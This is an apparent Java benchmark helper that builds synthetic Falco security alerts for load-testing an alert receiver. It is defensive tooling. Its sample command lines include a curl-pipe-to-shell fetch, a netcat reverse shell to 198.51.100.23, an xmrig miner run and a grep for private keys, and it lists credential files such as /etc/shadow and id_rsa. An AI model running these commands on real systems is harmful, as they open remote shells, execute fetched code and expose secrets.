package dev.vigil.bench;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Realistic Falco alerts as Falco's {@code http_output} posts them (one JSON alert per request,
 * {@code json_output: true}): a mix of stock Falco rules with varied pods, images, users, command
 * lines and files, 700 to 1000 bytes each. Every request is unique: its {@code proc.pid} is a
 * sequence number the caller supplies. The bodies are pre-encoded around that number so that
 * building a request costs a few array copies.
 */
final class AlertMix {
    /** A rule as Falco's stock rule files word it. */
    private record Rule(String name, String priority, String message, List<String> tags, String kind) {
    }

    private static final List<Rule> RULES = List.of(
            new Rule("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal",
                    List.of("maturity_stable", "container", "shell", "mitre_execution", "T1059"), "exec"),
            new Rule("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program",
                    List.of("maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"), "file"),
            new Rule("Write below etc", "Error", "File below /etc opened for writing",
                    List.of("maturity_stable", "host", "container", "filesystem", "mitre_persistence", "T1098"), "file"),
            new Rule("Contact K8S API Server From Container", "Notice", "Unexpected connection to K8s API Server from container",
                    List.of("maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"), "net"),
            new Rule("Drop and execute new binary in container", "Critical",
                    "Executing binary not part of base image", List.of("maturity_stable", "container", "process",
                            "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"), "exec"),
            new Rule("Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
                    "Redirect stdout/stdin to network connection", List.of("maturity_stable", "container", "network",
                            "process", "mitre_execution", "T1059"), "net"),
            new Rule("Search Private Keys or Passwords", "Warning", "Grep private keys or passwords activities found",
                    List.of("maturity_stable", "host", "container", "process", "filesystem", "mitre_credential_access",
                            "T1552.001"), "exec"),
            new Rule("Clear Log Activities", "Warning", "Log files were tampered",
                    List.of("maturity_stable", "host", "container", "filesystem", "mitre_defense_evasion", "T1070",
                            "NIST_800-53_AU-10"), "file"),
            new Rule("Netcat Remote Code Execution in Container", "Warning",
                    "Netcat runs inside container that allows remote code execution",
                    List.of("maturity_stable", "container", "network", "process", "mitre_execution", "T1059"), "exec"),
            new Rule("PTRACE attached to process", "Warning", "Detected ptrace PTRACE_ATTACH attempt",
                    List.of("maturity_stable", "host", "container", "process", "mitre_privilege_escalation", "T1055.008"),
                    "exec"),
            new Rule("Packet socket created in container", "Notice", "Packet socket was created in a container",
                    List.of("maturity_stable", "container", "network", "mitre_credential_access", "T1557.002"), "net"),
            new Rule("Fileless execution via memfd_create", "Critical", "Fileless execution via memfd_create",
                    List.of("maturity_stable", "host", "container", "process", "mitre_defense_evasion", "T1620"), "exec"));

    private static final String[] NAMESPACES = {"default", "payments", "checkout", "kube-system", "monitoring", "ingress-nginx",
        "data-platform", "ml-serving"};
    private static final String[] APPS = {"api-gateway", "orders", "billing-worker", "redis", "postgres", "nginx", "prometheus",
        "fluent-bit", "cart", "recommender", "auth", "search"};
    private static final String[] IMAGES = {"docker.io/library/nginx", "docker.io/library/redis", "docker.io/library/postgres",
        "quay.io/prometheus/prometheus", "ghcr.io/acme/orders", "ghcr.io/acme/billing", "registry.k8s.io/ingress-nginx/controller",
        "public.ecr.aws/acme/recommender"};
    private static final String[] USERS = {"root", "www-data", "nobody", "postgres", "app", "redis"};
    private static final String[][] EXEC = {
        {"bash", "bash -il", "runc"},
        {"sh", "sh -c curl -s http://10.0.3.7:8080/x.sh | sh", "containerd-shim"},
        {"grep", "grep -r BEGIN RSA PRIVATE /home /root /etc", "bash"},
        {"nc", "nc -e /bin/sh 198.51.100.23 4444", "sh"},
        {"xmrig", "./xmrig --donate-level 1 -o pool.example:3333", "sh"},
        {"python3", "python3 -c import pty;pty.spawn('/bin/bash')", "bash"},
        {"strace", "strace -p 1 -f -e trace=network", "bash"},
        {"memfd:x", "memfd:x --daemon", "python3"}};
    private static final String[] FILES = {"/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth", "/root/.ssh/id_rsa",
        "/etc/ld.so.preload", "/var/log/auth.log", "/var/log/syslog", "/etc/kubernetes/admin.conf", "/etc/cron.d/backup"};

    private final List<byte[][]> variants = new ArrayList<>();
    private final byte[] head;
    private final long bodyBytes;

    /**
     * {@code count} distinct alerts from a fixed seed, for requests to {@code hostPort}.
     */
    AlertMix(int count, String hostPort, long seed) {
        SplittableRandom rnd = new SplittableRandom(seed);
        Instant base = Instant.now().truncatedTo(ChronoUnit.SECONDS);
        long total = 0;
        for (int i = 0; i < count; i++) {
            String json = alert(rnd, base.plusNanos(rnd.nextLong(60_000_000_000L)), i);
            int slot = json.indexOf(PID_SLOT);
            byte[] before = json.substring(0, slot).getBytes(StandardCharsets.UTF_8);
            byte[] after = json.substring(slot + PID_SLOT.length()).getBytes(StandardCharsets.UTF_8);
            variants.add(new byte[][] {before, after});
            total += before.length + after.length + 7;
        }
        bodyBytes = total / count;
        head = ("POST / HTTP/1.1\r\nHost: " + hostPort + "\r\nUser-Agent: falcosecurity/falco\r\nAccept: */*\r\n"
                + "Content-Type: application/json\r\nContent-Length: ").getBytes(StandardCharsets.US_ASCII);
    }

    /** The mean body size in bytes. */
    long meanBodyBytes() {
        return bodyBytes;
    }

    int size() {
        return variants.size();
    }

    /** The largest request this mix writes, with room for a 19-digit sequence number. */
    int maxRequestBytes() {
        int max = 0;
        for (byte[][] v : variants) {
            max = Math.max(max, v[0].length + v[1].length);
        }
        return head.length + 4 + 20 + 4 + max + 20;
    }

    /** Writes request {@code variant} with sequence number {@code seq} into {@code buf}; returns its length. */
    int request(int variant, long seq, byte[] buf) {
        byte[][] v = variants.get(variant);
        int pos = copy(head, buf, 0);
        pos = writeLong(v[0].length + digits(seq) + v[1].length, buf, pos);
        buf[pos++] = '\r';
        buf[pos++] = '\n';
        buf[pos++] = '\r';
        buf[pos++] = '\n';
        return body(variant, seq, buf, pos);
    }

    /** Writes only the JSON alert of {@code variant} with {@code seq} at {@code pos}; returns the end. */
    int body(int variant, long seq, byte[] buf, int pos) {
        byte[][] v = variants.get(variant);
        return copy(v[1], buf, writeLong(seq, buf, copy(v[0], buf, pos)));
    }

    private static int copy(byte[] from, byte[] to, int pos) {
        System.arraycopy(from, 0, to, pos, from.length);
        return pos + from.length;
    }

    private static int digits(long v) {
        int d = 1;
        for (long x = v; x >= 10; x /= 10) {
            d++;
        }
        return d;
    }

    private static int writeLong(long v, byte[] buf, int pos) {
        int end = pos + digits(v);
        long x = v;
        for (int i = end - 1; i >= pos; i--) {
            buf[i] = (byte) ('0' + x % 10);
            x /= 10;
        }
        return end;
    }

    private static final String PID_SLOT = "@@PID@@";
    /** The fields a stock rule's output line names, with its labels (the others are only in output_fields). */
    private static final Map<String, String> IN_TEXT = Map.of("evt.type", "evt_type", "user.name", "user", "proc.name", "process",
            "proc.pname", "parent", "proc.cmdline", "command", "fd.name", "file", "container.id", "container_id",
            "k8s.ns.name", "k8s_ns", "k8s.pod.name", "k8s_pod");

    private static String alert(SplittableRandom rnd, Instant time, int i) {
        Rule rule = RULES.get(i % RULES.size());
        String ns = pick(rnd, NAMESPACES);
        String app = pick(rnd, APPS);
        String pod = app + "-" + Long.toHexString(rnd.nextLong(0x10000000L, 0xffffffffL)).substring(0, 8) + "-"
                + Integer.toString(rnd.nextInt(36 * 36 * 36 * 36, 36 * 36 * 36 * 36 * 36), 36);
        String image = pick(rnd, IMAGES);
        String container = Long.toHexString(rnd.nextLong() | 0x800000000000L).substring(0, 12);
        String user = pick(rnd, USERS);
        String[] exec = EXEC[rnd.nextInt(EXEC.length)];
        Map<String, Object> f = new LinkedHashMap<>();
        f.put("container.id", container);
        f.put("container.image.repository", image);
        f.put("container.image.tag", (rnd.nextBoolean() ? "1." : "2.") + rnd.nextInt(30) + "." + rnd.nextInt(10));
        f.put("container.name", app);
        f.put("evt.time", time.getEpochSecond() * 1_000_000_000L + time.getNano());
        f.put("evt.type", switch (rule.kind()) {
            case "file" -> "openat";
            case "net" -> rnd.nextBoolean() ? "connect" : "socket";
            default -> "execve";
        });
        f.put("k8s.ns.name", ns);
        f.put("k8s.pod.name", pod);
        f.put("proc.cmdline", exec[1]);
        f.put("proc.name", exec[0]);
        f.put("proc.pid", PID_SLOT);
        f.put("proc.pname", exec[2]);
        f.put("user.name", user);
        f.put("user.uid", user.equals("root") ? 0L : (long) rnd.nextInt(33, 1001));
        switch (rule.kind()) {
            case "file" -> {
                f.put("fd.name", pick(rnd, FILES));
                f.put("evt.arg.flags", rule.priority().equals("Error") ? "O_WRONLY|O_CREAT|O_TRUNC" : "O_RDONLY");
            }
            case "net" -> {
                f.put("fd.name", "10.244." + rnd.nextInt(256) + "." + rnd.nextInt(1, 255) + ":" + rnd.nextInt(32768, 60999)
                        + "->10.96.0.1:443");
                f.put("fd.sport", (long) rnd.nextInt(32768, 60999));
                f.put("fd.dport", 443L);
            }
            default -> f.put("proc.tty", rule.name().startsWith("Terminal") ? 34816L : 0L);
        }
        StringBuilder text = new StringBuilder().append(time).append(": ").append(rule.priority()).append(' ')
                .append(rule.message()).append(" |");
        for (Map.Entry<String, Object> e : f.entrySet()) {
            if (IN_TEXT.containsKey(e.getKey())) {
                text.append(' ').append(IN_TEXT.get(e.getKey())).append('=').append(e.getValue());
            }
        }
        StringBuilder json = new StringBuilder(1200).append("{\"hostname\":\"node-").append(rnd.nextInt(1, 40))
                .append("\",\"output\":");
        quote(json, text.toString());
        json.append(",\"output_fields\":{");
        boolean first = true;
        for (Map.Entry<String, Object> e : f.entrySet()) {
            json.append(first ? "" : ",");
            first = false;
            quote(json, e.getKey());
            json.append(':');
            if (e.getValue() instanceof Long n) {
                json.append(n);
            } else if (e.getValue() == PID_SLOT) {
                json.append(PID_SLOT);
            } else {
                quote(json, (String) e.getValue());
            }
        }
        json.append("},\"priority\":\"").append(rule.priority()).append("\",\"rule\":");
        quote(json, rule.name());
        json.append(",\"source\":\"syscall\",\"tags\":[");
        for (int t = 0; t < rule.tags().size(); t++) {
            json.append(t == 0 ? "" : ",");
            quote(json, rule.tags().get(t));
        }
        return json.append("],\"time\":\"").append(time).append("\"}").toString();
    }

    private static String pick(SplittableRandom rnd, String[] from) {
        return from[rnd.nextInt(from.length)];
    }

    private static void quote(StringBuilder out, String s) {
        out.append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        out.append('"');
    }
}
